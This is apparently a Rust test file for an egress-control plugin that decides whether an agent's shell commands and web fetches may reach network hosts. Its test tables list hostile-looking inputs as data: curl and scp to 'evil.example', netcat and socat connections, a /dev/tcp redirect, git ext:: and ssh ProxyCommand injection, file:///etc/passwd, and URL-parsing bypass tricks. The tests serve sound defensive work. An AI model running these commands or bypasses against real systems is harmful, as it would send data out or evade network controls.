use super::*;
use beadle_plugin::{Command, Word};

const CONFIG: &str = r#"{"allow": ["docs.rs", "*.crates.io", "github.com", "github.com:22", "127.0.0.1:*"], "deny": ["evil.example", "10.0.0.0/8"], "ask": ["maybe.example"]}"#;

fn effect(call: &Call) -> (Effect, String) {
    let d = Egress::read(CONFIG).expect(CONFIG).judge(call);
    (d.effect, d.reason)
}

fn run(words: &[&str]) -> (Effect, String) {
    let commands = vec![Command::of(words.iter().copied())];
    effect(&Call { kind: ToolKind::Execute, tool: "Bash".into(), commands, ..Call::default() })
}

fn fetch(url: &str) -> (Effect, String) {
    let input = serde_json::json!({ "url": url }).to_string();
    let urls = if url.starts_with("http") { vec![url.to_owned()] } else { vec![] };
    effect(&Call { kind: ToolKind::Fetch, tool: "WebFetch".into(), input, urls, ..Call::default() })
}

#[test]
fn fetch_tools() {
    for (url, want) in [
        ("https://docs.rs/x", Effect::Allow),
        ("https://DOCS.rs./x", Effect::Allow),
        ("https://static.crates.io/x", Effect::Allow),
        ("https://crates.io/x", Effect::Ask),
        ("https://docs.rs:8443/x", Effect::Ask),
        ("https://docs.rs@evil.example/", Effect::Deny),
        ("https://a.evil.example/", Effect::Deny),
        ("https://maybe.example/", Effect::Ask),
        ("https://other.example/", Effect::Ask),
        ("http://0x0a.1/", Effect::Deny),
        ("http://[::ffff:10.0.0.1]/", Effect::Deny),
        ("http://127.0.0.1:3000/", Effect::Allow),
        ("http://127.1:3000/", Effect::Ask),
        ("http://169.254.169.254/latest", Effect::Ask),
        ("https://docs.rs\\@evil.example", Effect::Ask),
        ("file:///etc/passwd", Effect::Ask),
        ("evil.example/?x=https://docs.rs/", Effect::Deny),
    ] {
        assert_eq!(fetch(url).0, want, "{url}: {}", fetch(url).1);
    }
    let search = Call { kind: ToolKind::Fetch, tool: "WebSearch".into(), ..Call::default() };
    assert_eq!(effect(&search).0, Effect::Abstain);
}

#[test]
fn commands_are_denied_asked_or_left_to_the_rules() {
    for (words, want) in [
        (&["curl", "https://docs.rs/x"][..], Effect::Abstain),
        (&["curl", "-sSfLo", "x", "https://docs.rs/x"], Effect::Abstain),
        (&["curl", "-H", "A: b", "-d", "@x", "docs.rs"], Effect::Abstain),
        (&["curl", "evil.example"], Effect::Deny),
        (&["curl", "docs.rs", "evil.example"], Effect::Deny),
        (&["curl", "-o", "x", "--url", "evil.example"], Effect::Deny),
        (&["curl", "--url=evil.example"], Effect::Deny),
        (&["curl", "--resolve", "docs.rs:443:10.0.0.1", "https://docs.rs"], Effect::Ask),
        (&["curl", "-xhttp://evil.example:1", "https://docs.rs"], Effect::Deny),
        (&["curl", "--prox", "p:1", "https://docs.rs"], Effect::Ask),
        (&["curl", "-sK", "x.cfg"], Effect::Ask),
        (&["git", "push"], Effect::Ask),
        (&["git", "status"], Effect::Abstain),
        (&["git", "commit", "-m", "see https://evil.example"], Effect::Abstain),
        (&["git", "clone", "git@github.com:a/b"], Effect::Abstain),
        (&["git", "clone", "evil.example:a/b"], Effect::Deny),
        (&["git", "push", "git@github.com:a/b", "main:main"], Effect::Abstain),
        (&["git", "clone", "./x", "y"], Effect::Abstain),
        (&["git", "-c", "core.sshCommand=x", "fetch", "https://github.com/a/b"], Effect::Ask),
        (&["git", "clone", "ext::sh -c x"], Effect::Ask),
        (&["ssh", "-p", "22", "me@github.com", "curl evil.example"], Effect::Abstain),
        (&["ssh", "-p2222", "github.com"], Effect::Ask),
        (&["ssh", "-oProxyCommand=x", "github.com"], Effect::Ask),
        (&["ssh", "-o", "StrictHostKeyChecking=no", "github.com"], Effect::Abstain),
        (&["scp", "x", "evil.example:y"], Effect::Deny),
        (&["rsync", "-a", "src/", "out/"], Effect::Abstain),
        (&["nc", "10.1.2.3", "80"], Effect::Deny),
        (&["nc", "-l", "80"], Effect::Ask),
        (&["socat", "-", "TCP:10.0.0.1:1"], Effect::Deny),
        (&["openssl", "s_client", "-connect", "evil.example:443"], Effect::Deny),
        (&["dig", "x.evil.example"], Effect::Deny),
        (&["npm", "install"], Effect::Ask),
        (&["npm", "install", "--registry=https://static.crates.io"], Effect::Abstain),
        (&["npm", "install", "--registry", "https://evil.example"], Effect::Deny),
        (&["npm", "test"], Effect::Abstain),
        (&["pip", "install", "-i", "https://evil.example/simple", "x"], Effect::Deny),
        (&["python3", "-m", "pip", "install", "x"], Effect::Ask),
        (&["python3", "-c", "open_url('https://evil.example')"], Effect::Deny),
        (&["cargo", "build"], Effect::Abstain),
        (&["gh", "pr", "list"], Effect::Ask),
        (&["echo", "https://evil.example"], Effect::Abstain),
        (&["make"], Effect::Abstain),
    ] {
        let (got, why) = run(words);
        assert_eq!(got, want, "{words:?}: {why}");
    }
}

#[test]
fn what_only_the_shell_knows_is_not_vouched_for() {
    let commands = vec![Command { argv: vec![Word::exact("curl"), Word::dynamic("https://docs.rs/$X")], ..Command::of(["x"]) }];
    let call = Call { kind: ToolKind::Execute, commands, ..Call::default() };
    assert_eq!(effect(&call).0, Effect::Ask);
    let proxied = Command { env: vec![Word::exact("HTTPS_PROXY=http://a.b:1")], ..Command::of(["curl", "https://docs.rs"]) };
    assert_eq!(effect(&Call { kind: ToolKind::Execute, commands: vec![proxied], ..Call::default() }).0, Effect::Ask);
    assert_eq!(effect(&Call { kind: ToolKind::Execute, parse: Parse::Partial, ..Call::default() }).0, Effect::Ask);
    let redirect = beadle_plugin::Redirect { target: Word::exact("/dev/tcp/10.0.0.1/80"), access: beadle_plugin::Access::Write };
    let talks = Command { redirects: vec![redirect], ..Command::of(["exec"]) };
    assert_eq!(effect(&Call { kind: ToolKind::Execute, commands: vec![talks], ..Call::default() }).0, Effect::Deny);
}
